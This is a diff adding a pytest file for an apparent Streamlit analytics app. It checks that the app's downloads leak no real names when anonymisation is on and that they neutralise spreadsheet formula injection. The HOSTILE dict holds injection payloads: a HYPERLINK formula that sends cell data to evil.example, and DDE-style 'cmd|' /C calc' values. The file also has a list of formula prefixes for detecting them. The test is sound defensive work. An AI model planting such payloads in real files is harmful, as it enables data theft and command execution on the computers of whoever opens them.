@@ -1,0 +1,173 @@
+"""Every download of every page, read back: with Anonymise on none holds a real name; with
+hostile values in the data none holds a cell a spreadsheet would run as a formula.
+
+Each page runs in AppTest with ``st.download_button`` observed: what each button would hand
+the user (its data, built as on a click) is read back with csv and openpyxl, PDFs with pypdf.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+from pathlib import Path
+
+import pandas as pd
+import pyarrow.parquet as pq
+import pytest
+import streamlit as st
+from openpyxl import load_workbook
+from pypdf import PdfReader
+
+from analytics.ingest.pipeline import import_directory
+from analytics.workspace import Workspace
+from tests.app.test_pages import PAGES, ROOT, app
+
+DEMO = ROOT / "data" / "demo"
+PREPARE = ("prep-handouts", "prep-report", "prep-manager-handout")
+FORMULA = ("=", "+", "-", "@", "\t", "\r")
+
+
+def file_text(name: str, data: bytes) -> str:
+    suffix = name.rsplit(".", 1)[-1].lower()
+    if suffix == "xlsx":
+        wb = load_workbook(io.BytesIO(data))
+        return "\n".join(str(c.value) for ws in wb for row in ws.iter_rows() for c in row if c.value is not None)
+    if suffix == "pdf":
+        return "\n".join(p.extract_text() or "" for p in PdfReader(io.BytesIO(data)).pages)
+    if suffix == "zip":
+        parts = []
+        with zipfile.ZipFile(io.BytesIO(data)) as zf:
+            for member in zf.namelist():
+                raw = zf.read(member)
+                parts.append(pq.read_table(io.BytesIO(raw)).to_pandas().to_csv() if member.endswith(".parquet")
+                             else raw.decode("utf-8", "replace"))
+        return "\n".join(parts)
+    return data.decode("utf-8-sig", "replace")
+
+
+@pytest.fixture
+def downloads(monkeypatch):
+    """Every download button's file, as (page, file name, bytes), while the fixture is used."""
+    seen: dict[tuple[str, str], bytes] = {}
+    current = {"page": ""}
+    original = st.download_button
+
+    def observed(label, data=None, file_name=None, *args, **kwargs):
+        payload = data() if callable(data) else data
+        if isinstance(payload, str):
+            payload = payload.encode("utf-8")
+        if payload is not None and not kwargs.get("disabled"):
+            seen[(current["page"], file_name or label)] = payload
+        return original(label, data, file_name, *args, **kwargs)
+
+    monkeypatch.setattr(st, "download_button", observed)
+    return seen, current
+
+
+def walk(at, current) -> None:
+    """Open every page (Presenter mode screen by screen) and prepare what must be prepared."""
+    for page in PAGES:
+        current["page"] = page
+        at.switch_page(page).run()
+        assert not at.exception, page
+        for key in PREPARE:
+            if any(b.key == key for b in at.button):
+                at.button(key=key).click().run()
+                assert not at.exception, (page, key)
+        if page == "views/present.py":
+            for _ in range(20):
+                if at.button(key="next-slide").disabled:
+                    break
+                at.button(key="next-slide").click().run()
+                assert not at.exception
+
+
+def test_with_anonymise_on_no_download_holds_a_real_name(downloads):
+    seen, current = downloads
+    at = app().run()
+    at.sidebar.toggle(key="anon-on").set_value(True).run()
+    at.sidebar.checkbox(key="anon-accounts").check().run()
+    walk(at, current)
+    kinds = {name.rsplit(".", 1)[-1] for _, name in seen}
+    assert {"csv", "xlsx", "pdf", "html", "json", "zip"} <= kinds, kinds
+    assert len(seen) >= 70
+    people = pd.read_csv(DEMO / "people.csv")
+    accounts = pd.read_csv(DEMO / "accounts.csv")
+    names = [*people["name"], *people["email"], *accounts["name"]]
+    checked = 0
+    for (page, name), data in seen.items():
+        text = file_text(name, data)
+        leaks = [n for n in names if n in text]
+        assert not leaks, f"{page} / {name}: {leaks[:5]}"
+        checked += 1
+    handouts = next(d for (p, n), d in seen.items() if n.startswith("handouts-") and n.endswith(".pdf"))
+    assert file_text("x.pdf", handouts).count("Manager ") >= 15
+    report = next(d for (p, n), d in seen.items() if n.endswith(".html"))
+    assert "Manager 0" in report.decode("utf-8")
+    assert checked == len(seen)
+
+
+HOSTILE = {
+    "manager": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "rep": "+cmd|' /C calc'!A0",
+    "team": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "product": "-2+3+cmd|' /C calc'!A0",
+}
+
+
+def hostile_workspace(folder: Path) -> Workspace:
+    """The demo with a manager, one of their reps, their team and a product renamed to formulas."""
+    people = pd.read_csv(DEMO / "people.csv")
+    manager = people.loc[people["role"] == "Sales Manager", "name"].iloc[0]
+    rep = people.loc[people["manager"] == manager, "name"].iloc[0]
+    team = people.loc[people["name"] == manager, "team"].iloc[0]
+    product = pd.read_csv(DEMO / "products.csv")["product"].iloc[0]
+    swaps = {manager: HOSTILE["manager"], rep: HOSTILE["rep"], team: HOSTILE["team"], product: HOSTILE["product"]}
+    for src in sorted(DEMO.glob("*.csv")):
+        frame = pd.read_csv(src, dtype=str, keep_default_na=False)
+        frame.apply(lambda col: col.map(lambda v: swaps.get(v, v))).to_csv(folder / src.name, index=False)
+    ws = Workspace()
+    import_directory(ws, folder)
+    ws.source, ws.label = "uploads", "Hostile copy of the demo"
+    return ws
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+        return True
+    except ValueError:
+        return False
+
+
+def formula_cells(name: str, data: bytes) -> list[str]:
+    if name.endswith(".csv"):
+        rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
+        return [c for row in rows for c in row if c.startswith(FORMULA) and not _number(c)]
+    bad = []
+    for sheet in load_workbook(io.BytesIO(data)):
+        for row in sheet.iter_rows():
+            for c in row:
+                if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith(FORMULA)):
+                    bad.append(f"{sheet.title}!{c.coordinate}={c.value!r}")
+    return bad
+
+
+def test_hostile_values_come_out_of_every_table_download_as_text(downloads, tmp_path):
+    seen, current = downloads
+    ws = hostile_workspace(tmp_path)
+    assert ws.scalar("SELECT count(*) FROM v_people WHERE name = ?", [HOSTILE["manager"]]) == 1
+    at = app(ws).run()
+    walk(at, current)
+    tables = {k: v for k, v in seen.items() if k[1].endswith((".csv", ".xlsx")) and not k[1].startswith("template")}
+    assert len(tables) >= 60
+    carried = dict.fromkeys(HOSTILE, 0)
+    for (page, name), data in tables.items():
+        bad = formula_cells(name, data)
+        assert not bad, f"{page} / {name}: cells a spreadsheet would run: {bad[:5]}"
+        text = file_text(name, data)
+        for key, value in HOSTILE.items():
+            carried[key] += value in text
+    # the hostile values reached the downloads, as text: the check above had something to check
+    assert all(n > 0 for n in carried.values()), carried
